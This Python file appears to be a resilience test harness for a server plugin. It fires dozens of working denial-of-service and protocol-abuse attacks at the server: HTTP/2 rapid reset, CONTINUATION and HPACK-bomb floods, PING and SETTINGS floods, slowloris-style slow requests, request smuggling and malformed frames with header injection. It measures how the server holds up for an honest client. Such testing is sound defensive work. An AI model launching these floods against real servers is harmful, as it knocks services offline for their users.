"""Attacks on a server that has the plugin of target.lua, with an honest client beside them.

  attack.py --http HOST:PORT --https HOST:PORT --pid PID [--before SECONDS] [--repeat SECONDS] [--scale N] [NAME…]

Prints one JSON line for each attack: what was sent, how the connection ended, how many handlers ran, the
honest client's answers before and meanwhile, memory and CPU of the server. Nothing here decides what is
good; attack_spec.lua and scripts/bench attacks do."""
import argparse
import http.client
import json
import os
import random
import select
import socket
import statistics
import struct
import subprocess
import sys
import time

import smuggle
from h2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM,
                SETTINGS, WINDOW_UPDATE, Peer, field, frame, number, request)

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


class Target:
    def __init__(self, options):
        split = lambda text: (text.rsplit(":", 1)[0], int(text.rsplit(":", 1)[1]))
        self.http, self.https = split(options.http), split(options.https)
        self.pid, self.scale = options.pid, options.scale

    def get(self, path):
        plain = http.client.HTTPConnection(*self.http, timeout=30)
        plain.request("GET", path)
        body = plain.getresponse().read()
        plain.close()
        return body

    def hits(self):
        return json.loads(self.get("/hits"))["n"]

    def rss(self, key="VmRSS"):
        with open("/proc/%d/status" % self.pid) as status:
            return next(int(line.split()[1]) for line in status if line.startswith(key)) * 1024

    def descriptors(self):
        return len(os.listdir("/proc/%d/fd" % self.pid))

    def read_bytes(self):
        with open("/proc/%d/io" % self.pid) as io:
            return int(next(line for line in io if line.startswith("rchar")).split()[1])

    def cpu(self):
        with open("/proc/%d/stat" % self.pid) as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def many(self, n):
        return max(1, int(n * self.scale))


def end_of(peer, seconds=60):
    """How a connection ended: waits for it a while."""
    peer.wait(lambda: peer.closed, seconds)
    result = {"closed": peer.closed, "goaway": peer.goaway}
    peer.close()
    return result


def flood(target, unit, count, first=b"", peer=None, batch=500):
    """`count` times what unit(i) gives, on one connection, until the server ends it."""
    peer = peer or Peer(target.https)
    peer.send(first)
    sent = 0
    while sent < count and not peer.closed and not peer.goaway:
        piece = b"".join(unit(sent + i) for i in range(min(batch, count - sent)))
        if peer.send(piece, 5) < len(piece):
            break
        sent += batch
    return {"sent": min(sent, count), "answered": peer.acks + len(peer.resets), **end_of(peer)}


def open_request(stream, path="/hit", flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, request(path))


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


@attack
def rapid_reset(target):
    """HEADERS and RST_STREAM 100,000 times on one connection"""
    return flood(target, lambda i: open_request(2 * i + 1) + reset(2 * i + 1), target.many(100000))


@attack
def rapid_reset_many_connections(target):
    """100,000 pairs over as many connections as it takes, each until it is closed"""
    total, sent, connections = target.many(100000), 0, 0
    while sent < total and connections < 400:
        one = flood(target, lambda i: open_request(2 * i + 1) + reset(2 * i + 1), min(1000, total - sent))
        sent, connections = sent + one["sent"], connections + 1
    return {"sent": sent, "connections": connections, "closed": one["closed"], "goaway": one["goaway"]}


@attack
def late_reset(target):
    """each request gets time to begin before it is cancelled"""
    peer, sent = Peer(target.https), 0
    while sent < target.many(2000) and not peer.closed and not peer.goaway:
        stream = peer.next_stream()
        peer.send(open_request(stream, "/slow"))
        peer.read()
        time.sleep(0.0005)
        peer.send(reset(stream))
        sent += 1
    return {"sent": sent, **end_of(peer)}


@attack
def made_you_reset(target):
    """requests that the server itself has to reset: WINDOW_UPDATE of 0, one that overflows, DATA behind the end"""
    spoil = [lambda s: frame(WINDOW_UPDATE, 0, s, bytes(4)),
             lambda s: frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff") * 2,
             lambda s: frame(DATA, 0, s, b"x")]
    return flood(target, lambda i: open_request(2 * i + 1) + spoil[i % 3](2 * i + 1), target.many(20000))


@attack
def stream_limit(target):
    """more requests at a time than are allowed, none of them finished"""
    return flood(target, lambda i: open_request(2 * i + 1, "/echo", END_HEADERS), target.many(20000))


@attack
def continuation(target):
    """a header block without an end"""
    first = frame(HEADERS, END_STREAM, 1, request("/hit"))
    piece = frame(CONTINUATION, 0, 1, field("x", "y" * 16000))
    return flood(target, lambda i: piece, target.many(6000), first, batch=20)


@attack
def continuation_empty(target):
    """CONTINUATION frames without a byte"""
    first = frame(HEADERS, END_STREAM, 1, request("/hit"))
    return flood(target, lambda i: frame(CONTINUATION, 0, 1), target.many(200000), first)


def bomb(stream, block):
    pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    out = b""
    for i, piece in enumerate(pieces):
        flags = END_HEADERS if i == len(pieces) - 1 else 0
        out += frame(CONTINUATION if i else HEADERS, flags, stream, piece)
    return out


@attack
def hpack_bomb(target):
    """a field of 4,000 bytes in the table, then named 200,000 times in each of 90 unfinished requests"""
    peer = Peer(target.https)
    first = frame(HEADERS, END_STREAM | END_HEADERS, 1, request("/ok", extra=field("bomb", "x" * 3900, index=True)))
    peer.send(first)
    peer.wait(lambda: 1 in peer.ended)
    block = request("/echo", "POST", extra=b"\xbe" * target.many(200000))
    return flood(target, lambda i: bomb(2 * i + 3, block), 90, peer=peer, batch=1)


@attack
def hpack_bomb_small(target):
    """the same within the size of an allowed header block"""
    peer = Peer(target.https)
    peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request("/ok", extra=field("bomb", "x" * 3900, index=True))))
    peer.wait(lambda: 1 in peer.ended)
    block = request("/echo", "POST", extra=b"\xbe" * 15000)
    return flood(target, lambda i: bomb(2 * i + 3, block), 90, peer=peer, batch=1)


@attack
def hpack_table_updates(target):
    """table size updates by the thousand in each header block"""
    block = (number(0, 5, 0x20) + number(4096, 5, 0x20)) * 3000 + request("/hit")
    return flood(target, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block), target.many(2000), batch=20)


@attack
def settings_flood(target):
    return flood(target, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + i % 2)), target.many(200000))


@attack
def ping_flood(target):
    return flood(target, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), target.many(200000))


@attack
def ping_flood_unread(target):
    """PING without reading a single answer"""
    peer = Peer(target.https, receive_buffer=4096)
    piece, sent = frame(PING, 0, 0, bytes(8)) * 1000, 0
    while sent < target.many(300000):
        if peer.send(piece, 1, read=False) < len(piece):
            break
        sent += 1000
    held = target.rss()
    return {"sent": sent, "held": held, **end_of(peer)}


@attack
def empty_data(target):
    return flood(target, lambda i: frame(DATA, 0, 1), target.many(200000), open_request(1, "/echo", END_HEADERS))


@attack
def priority_flood(target):
    return flood(target, lambda i: frame(PRIORITY, 0, 1, struct.pack(">IB", 3 * (i % 2), i % 255)), target.many(200000),
                 open_request(1, "/echo", END_HEADERS) + open_request(3, "/echo", END_HEADERS))


@attack
def window_update_flood(target):
    return flood(target, lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), target.many(500000))


@attack
def unknown_frames(target):
    return flood(target, lambda i: frame(0x2A, 0, 0, b"grease"), target.many(100000))


@attack
def goaway_flood(target):
    return flood(target, lambda i: frame(GOAWAY, 0, 0, bytes(8)), target.many(100000))


@attack
def stream_ids(target):
    """the last stream id at once, then another"""
    peer = Peer(target.https)
    peer.send(open_request(0x7FFFFFFF, "/ok"))
    peer.wait(lambda: 0x7FFFFFFF in peer.ended)
    status = peer.statuses.get(0x7FFFFFFF)
    peer.send(open_request(1, "/ok"))
    return {"sent": 2, "status": status, **end_of(peer)}


@attack
def zero_window(target):
    """100 answers of 1 MiB on each of some connections, and not a byte of window for them"""
    peers, before = [], target.rss()
    for _ in range(target.many(10)):
        peer = Peer(target.https, struct.pack(">HI", 4, 0))
        peer.send(b"".join(open_request(2 * i + 1, "/big") for i in range(100)))
        peers.append(peer)
    until, most = time.monotonic() + 2, 0
    while time.monotonic() < until:
        for peer in peers:
            peer.wait(lambda: False, 0.01)
        most = max(most, target.rss())
    ran = sum(len(peer.statuses) for peer in peers)
    until = time.monotonic() + 20
    while time.monotonic() < until and not all(p.closed or len(p.resets) >= len(p.statuses) > 0 for p in peers):
        for peer in peers:
            peer.wait(lambda: False, 0.02)
    ended = sum(1 for p in peers if p.closed or len(p.resets) >= len(p.statuses) > 0)
    for peer in peers:
        peer.close()
    return {"sent": 100 * len(peers), "begun": ran, "held": most - before, "ended": ended, "connections": len(peers)}


def lives(sockets, seconds, feed=None, every=0.2):
    """Feeds every socket now and then; @return seconds each lived, None for those that outlived `seconds`."""
    began, ended, at = time.monotonic(), {}, 0
    while len(ended) < len(sockets) and time.monotonic() - began < seconds:
        for i, sock in enumerate(sockets):
            if i in ended:
                continue
            try:
                if feed:
                    sock.send(feed(at))
                if select.select([sock], [], [], 0)[0] and not sock.recv(65536):
                    ended[i] = time.monotonic() - began
            except OSError:
                ended[i] = time.monotonic() - began
        at += 1
        time.sleep(every)
    for sock in sockets:
        sock.close()
    return [ended.get(i) for i in range(len(sockets))]


def lived(times):
    done = sorted(t for t in times if t is not None)
    return {"connections": len(times), "ended": len(done), "closed": len(done) == len(times),
            "first_s": round(done[0], 2) if done else None, "last_s": round(done[-1], 2) if done else None}


def dial(target, data, count):
    sockets = []
    for _ in range(count):
        sock = socket.create_connection(target.http)
        sock.sendall(data)
        sockets.append(sock)
    return sockets


@attack
def slow_headers(target):
    """a head, a byte at a time"""
    sockets = dial(target, b"GET /ok HTTP/1.1\r\nHost: a\r\nX: ", target.many(200))
    return lived(lives(sockets, 20, lambda at: b"x"))


@attack
def slow_body(target):
    """a body, a byte at a time"""
    sockets = dial(target, b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", target.many(200))
    return lived(lives(sockets, 20, lambda at: b"x"))


@attack
def slow_body_expected(target):
    """the same behind "100 Continue\""""
    sockets = dial(target, b"POST /echo HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 100000\r\n\r\n",
                   target.many(200))
    return lived(lives(sockets, 20, lambda at: b"x"))


@attack
def slow_chunks(target):
    sockets = dial(target, b"POST /echo HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n", target.many(200))
    return lived(lives(sockets, 20, lambda at: b"1\r\nx\r\n"))


UPLOAD = 64 << 20
UNSIGNED = "/objects/target?key=k&expires=9999999999&signature=" + "0" * 64


def upload(target, chunked):
    """Goes on sending for as long as it is taken; @return bytes sent, status"""
    sock = socket.create_connection(target.http, timeout=5)
    length = "transfer-encoding: chunked" if chunked else "content-length: %d" % UPLOAD
    sock.sendall(("PUT %s HTTP/1.1\r\nHost: a\r\n%s\r\n\r\n" % (UNSIGNED, length)).encode())
    piece, sent, answer = (b"10000\r\n" if chunked else b"") + b"x" * 65536, 0, b""
    try:
        while sent < UPLOAD:
            sent += sock.send(piece)
            while select.select([sock], [], [], 0)[0]:
                more = sock.recv(65536)
                answer += more
                if not more:
                    break
    except OSError:
        pass
    sock.close()
    return sent, int(answer[9:12] or 0)


def upload_by_frames(target):
    peer = Peer(target.https)
    stream, sent = peer.next_stream(), 0
    peer.send(frame(HEADERS, END_HEADERS, stream, request(UNSIGNED, "PUT", field("content-length", str(UPLOAD)))))
    peer.wait(lambda: stream in peer.ended or stream in peer.resets)
    status = peer.statuses.get(stream, 0)
    while sent < UPLOAD and not peer.closed and not peer.goaway:
        sent += peer.send(frame(DATA, 0, stream, b"x" * 16384), 5)
    peer.close()
    return sent, status


@attack
def unsigned_upload(target):
    """bodies of 64 MiB to an address that nobody gave out: with a length, in chunks, by HTTP/2"""
    read = target.read_bytes()
    plain = [upload(target, i % 2 == 1) for i in range(target.many(8))]
    frames = [upload_by_frames(target) for _ in range(target.many(4))]
    all_of_them = plain + frames
    peer = Peer(target.https)
    stream = peer.next_stream()
    peer.send(frame(HEADERS, END_HEADERS, stream, request(UNSIGNED, "PUT")) + frame(DATA, 0, stream, b"x" * 16384))
    peer.wait(lambda: stream in peer.ended or stream in peer.resets)
    beside = peer.get("/ok")
    peer.close()
    return {"statuses": [status for _, status in all_of_them] + [peer.statuses.get(stream, 0)], "beside": beside,
            "sent_most": max(sent for sent, _ in all_of_them), "read": target.read_bytes() - read,
            "uploads": len(all_of_them)}


@attack
def eager_uploads(target):
    """clients that send their bodies without waiting, several on a connection, and are refused meanwhile"""
    statuses, resets, beside, owed = [], set(), [], 0
    for i in range(target.many(30)):
        peer, sent, size = Peer(target.https), 0, (16384, 1000, 100)[i % 3]
        for _ in range(4):
            stream = peer.next_stream()
            peer.send(frame(HEADERS, END_HEADERS, stream, request(UNSIGNED, "PUT")))
            for _ in range(50):
                peer.send(frame(DATA, 0, stream, b"x" * size), read=False)
                sent += size
            peer.send(frame(DATA, END_STREAM, stream, b"x"))
            peer.wait(lambda: stream in peer.ended, 20)
            statuses.append(peer.statuses.get(stream, 0))
        beside.append(peer.get("/ok"))
        resets |= set(peer.resets.values())
        owed = max(owed, sent - peer.granted - 65535)
        peer.close()
    return {"statuses": statuses, "resets": sorted(resets), "beside": beside, "owed": owed}


@attack
def slow_reader(target):
    """answers of 1 MiB of which nobody takes a byte"""
    sockets, before, descriptors = [], target.rss(), target.descriptors()
    for _ in range(target.many(200)):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.connect(target.http)
        sock.sendall(b"GET /big HTTP/1.1\r\nHost: a\r\n\r\n")
        sockets.append(sock)
    began, held = time.monotonic(), 0
    # Nobody tells a client that does not read; the server's own side has to go.
    while target.descriptors() > descriptors + len(sockets) // 20 and time.monotonic() - began < 60:
        held = max(held, target.rss() - before)
        time.sleep(0.1)
    left = max(0, target.descriptors() - descriptors)
    for sock in sockets:
        sock.close()
    return {"held": held, "connections": len(sockets), "ended": len(sockets) - left,
            "closed": left <= len(sockets) // 20, "last_s": round(time.monotonic() - began, 2)}


def settle(target, seconds=3):
    """Memory once it does not grow any more."""
    last, until = 0, time.monotonic() + seconds
    while time.monotonic() < until:
        now = target.rss()
        if now == last:
            break
        last = now
        time.sleep(0.3)
    return target.rss()


@attack
def idle_connections(target):
    """connections that say nothing"""
    before, count = settle(target), target.many(10000)
    sockets = [socket.create_connection(target.http) for _ in range(count)]
    held = settle(target) - before
    alive = sum(1 for sock in sockets if not select_read(sock))
    for sock in sockets:
        sock.close()
    return {"connections": count, "alive": alive, "held": held, "each": held // count}


def select_read(sock):
    poll = select.poll()
    poll.register(sock, select.POLLIN)
    return bool(poll.poll(0))


@attack
def idle_sockets(target):
    """WebSockets that say nothing"""
    before, count, sockets = settle(target), target.many(10000), []
    hello = (b"GET /ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
             b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
    opened = 0
    for _ in range(count):
        sock = socket.create_connection(target.http)
        sock.sendall(hello)
        sockets.append(sock)
    for sock in sockets:
        sock.settimeout(20)
        opened += sock.recv(4096).startswith(b"HTTP/1.1 101")
    held = settle(target) - before
    # One of them still speaks: "hi", masked with zeros.
    sockets[count // 2].sendall(b"\x81\x82\0\0\0\0hi")
    echo = sockets[count // 2].recv(100)
    for sock in sockets:
        sock.close()
    return {"connections": count, "opened": opened, "held": held, "each": held // count, "echo": echo.decode("latin1")}


@attack
def smuggling(target):
    """requests that two readers could read in two ways"""
    results = smuggle.run(target.http, target.hits)
    wrong = {name: result for name, result in results.items() if result["wrong"]}
    return {"sent": len(results), "wrong": wrong}


def odd_headers():
    """name: (frames on a connection of its own, whether it must be refused)"""
    def one(block):
        return frame(HEADERS, END_STREAM | END_HEADERS, 1, block)
    ok = request("/hit/odd")
    return {
        "CR LF in a value": one(ok + field("x", "a\r\nHost: b")),
        "NUL in a value": one(ok + field("x", "a\0b")),
        "CR LF in the path": one(b"\x82\x87\x04" + field("", "/hit/odd HTTP/1.1\r\nX: y")[2:]),
        "space in the path": one(request("/hit/odd x")),
        "target without slash": one(request("hit/odd")),
        "empty path": one(request("")),
        "fragment in authority": one(b"\x82\x87\x04" + field("", "/hit/odd")[2:] + b"\x01" + field("", "a/b")[2:]),
        "upper case": one(ok + field("X-Upper", "y")),
        "colon in a name": one(ok + field("a:b", "y")),
        "empty name": one(ok + field("", "y")),
        "connection": one(ok + field("connection", "close")),
        "transfer-encoding": one(ok + field("transfer-encoding", "chunked")),
        "keep-alive": one(ok + field("keep-alive", "1")),
        "upgrade": one(ok + field("upgrade", "h2c")),
        "te gzip": one(ok + field("te", "gzip")),
        "no method": one(ok[1:]),
        "no scheme": one(ok[:1] + ok[2:]),
        "two paths": one(ok + b"\x04" + field("", "/other")[2:]),
        "pseudo behind a field": one(b"\x82\x87" + field("x", "y") + b"\x04" + field("", "/hit/odd")[2:]),
        "unknown pseudo": one(b"\x82\x87" + field(":x", "y") + ok[2:]),
        "answer's pseudo": one(b"\x88" + ok),
        "content-length without body": one(request("/hit/odd", "POST", field("content-length", "5"))),
        "content-length over the body": frame(HEADERS, END_HEADERS, 1, request(
            "/hit/odd", "POST", field("content-length", "5"))) + frame(DATA, END_STREAM, 1, b"abc"),
        "content-length not a number": frame(HEADERS, END_HEADERS, 1, request(
            "/hit/odd", "POST", field("content-length", "3x"))) + frame(DATA, END_STREAM, 1, b"abc"),
        "two content-lengths": frame(HEADERS, END_HEADERS, 1, request(
            "/hit/odd", "POST", field("content-length", "3") + field("content-length", "4"))) + frame(
                DATA, END_STREAM, 1, b"abcd"),
        "pseudo in trailers": frame(HEADERS, END_HEADERS, 1, request("/hit/odd", "POST")) + frame(
            HEADERS, END_STREAM | END_HEADERS, 1, field(":path", "/other")),
        "even stream": frame(HEADERS, END_STREAM | END_HEADERS, 2, ok),
        "stream 0": frame(HEADERS, END_STREAM | END_HEADERS, 0, ok),
        "index 0": one(ok + b"\x80"),
        "index beyond the table": one(ok + number(200, 7, 0x80)),
        "integer without end": one(ok + b"\xff" * 12),
        "string over the block": one(ok + b"\x00\x01x\x7f\xff\x03"),
        "bad Huffman": one(ok + b"\x00\x01x\x84\xff\xff\xff\xff"),
        "table over the limit": one(number(1 << 20, 5, 0x20) + ok),
        "padding over the frame": frame(HEADERS, END_STREAM | END_HEADERS | 8, 1, b"\xff" + ok),
        "depends on itself": frame(HEADERS, END_STREAM | END_HEADERS | 32, 1, struct.pack(">IB", 1, 1) + ok),
        "frame over 16 KiB": frame(HEADERS, END_STREAM | END_HEADERS, 1, ok + field("x", "y" * 17000)),
        "other frame within a block": frame(HEADERS, END_STREAM, 1, ok) + frame(PING, 0, 0, bytes(8)),
        "CONTINUATION alone": frame(CONTINUATION, END_HEADERS, 1, ok),
        "DATA on a stream never opened": frame(DATA, END_STREAM, 5, b"x"),
        "PUSH_PROMISE": frame(5, END_HEADERS, 1, bytes(4) + ok),
        "SETTINGS of 5 bytes": frame(SETTINGS, 0, 0, bytes(5)),
        "SETTINGS ACK with bytes": frame(SETTINGS, ACK, 0, bytes(6)),
        "window over 2^31": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0xFFFFFFFF)),
        "frame size 0": frame(SETTINGS, 0, 0, struct.pack(">HI", 5, 0)),
        "PING of 7 bytes": frame(PING, 0, 0, bytes(7)),
    }


@attack
def odd_frames(target):
    """header fields and frames that HTTP/2 forbids"""
    results, before = {}, target.hits()
    for name, data in odd_headers().items():
        peer = Peer(target.https)
        peer.send(data)
        peer.wait(lambda: peer.closed or peer.goaway or peer.resets or peer.ended, 2)
        end = ("goaway %d" % peer.goaway["code"] if peer.goaway else "reset %d" % list(peer.resets.values())[0]
               if peer.resets else "status %d" % list(peer.statuses.values())[0] if peer.statuses
               else "closed" if peer.closed else "nothing")
        peer.close()
        ran, before = target.hits() - before, target.hits()
        results[name] = end + (" and ran" if ran else "")
    bad = {n: e for n, e in results.items() if "ran" in e or e in ("nothing", "status 200")}
    # The library keeps the last of several content-lengths to itself; the frames say where a body ends.
    for name in ("content-length without body", "two content-lengths"):
        bad.pop(name, None)
    return {"sent": len(results), "wrong": bad, "results": results}


def noise(random_, streams):
    """A frame that is nearly right."""
    kind = random_.choice((0, 0, 1, 1, 1, 2, 3, 4, 5, 6, 7, 8, 8, 9, 9, 10))
    stream = random_.choice((0, 1, 3, 5, streams, streams, streams + 2))
    flags = random_.choice((0, 1, 4, 5, 5, 5, 8, 13, 32, 37, 45, 255))
    body = random_.choice((
        lambda: random_.randbytes(random_.randrange(40)),
        lambda: request(random_.choice(("/ok", "/big", "/echo", "/slow")), random_.choice(("GET", "POST"))),
        lambda: request("/echo", "POST") + random_.randbytes(random_.randrange(8)),
        lambda: struct.pack(">HI", random_.randrange(8), random_.choice((0, 1, 65535, 1 << 24, 1 << 31, 16384))),
        lambda: struct.pack(">I", random_.choice((0, 1, 0x7FFFFFFF, 65535))),
        lambda: struct.pack(">IB", random_.choice((0, 1, streams, 1 << 31)), 7),
        lambda: bytes(8), lambda: b"", lambda: b"x" * random_.randrange(20000)))()
    return frame(kind, flags, stream, body)


@attack
def frame_noise(target):
    """connections that send frames at random, each from a seed of its own"""
    count, first = target.many(500), int(os.environ.get("NOISE_SEED", "1"))
    for seed in range(first, first + count):
        random_ = random.Random(seed)
        peer, streams = Peer(target.https), 1
        for _ in range(random_.randrange(1, 40)):
            data = noise(random_, streams) if random_.random() < 0.6 else open_request(
                streams, random_.choice(("/ok", "/big", "/slow")))
            streams += 2
            if peer.send(data, 1) < len(data) or peer.closed:
                break
            if random_.random() < 0.3:
                peer.wait(lambda: False, 0.001)
        peer.close()
    return {"sent": count, "closed": True}


# ---- running them ----


class Honest:
    """The honest client, a process of its own."""

    def __init__(self, options):
        here = os.path.dirname(os.path.abspath(__file__))
        self.process = subprocess.Popen([sys.executable, here + "/honest.py", options.http, options.https, "/ok"],
                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE)

    def stop(self):
        return json.loads(self.process.communicate()[0])["requests"]


def summary(requests):
    times = sorted(r[1] for r in requests)
    at = lambda share: round(times[min(len(times) - 1, int(len(times) * share))], 2) if times else None
    return {"n": len(times), "bad": sorted({r[2] for r in requests if r[2] != 200}),
            "failed": sum(1 for r in requests if r[2] != 200), "p50": at(0.5), "p99": at(0.99),
            "max": at(1), "mean": round(statistics.fmean(times), 2) if times else None}


def run(name, target, options):
    hits, rss, cpu = target.hits(), target.rss(), target.cpu()
    honest = Honest(options)
    time.sleep(options.before)
    began, cpu_before = time.monotonic(), target.cpu()
    result, times = ATTACKS[name](target), 1
    while time.monotonic() - began < options.repeat:
        result, times = ATTACKS[name](target), times + 1
    took, cpu = time.monotonic() - began, target.cpu() - cpu_before
    time.sleep(options.after)
    requests = honest.stop()
    print(json.dumps({
        "attack": name, "result": result, "ran": target.hits() - hits, "seconds": round(took, 2), "times": times,
        "honest_before": summary([r for r in requests if r[0] < began]),
        "honest": summary([r for r in requests if began <= r[0]]),
        "rss_before": rss, "rss_after": target.rss(), "rss_peak": target.rss("VmHWM"), "cpu_s": round(cpu, 2)}), flush=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--http", required=True)
    parser.add_argument("--https", required=True)
    parser.add_argument("--pid", type=int, required=True, help="the server process")
    parser.add_argument("--before", type=float, default=0.3)
    parser.add_argument("--after", type=float, default=0.2)
    parser.add_argument("--repeat", type=float, default=0, help="seconds to go on with each attack, again and again")
    parser.add_argument("--scale", type=float, default=1)
    parser.add_argument("names", nargs="*")
    options = parser.parse_args()
    target = Target(options)
    for name in options.names or ATTACKS:
        run(name, target, options)


if __name__ == "__main__":
    main()
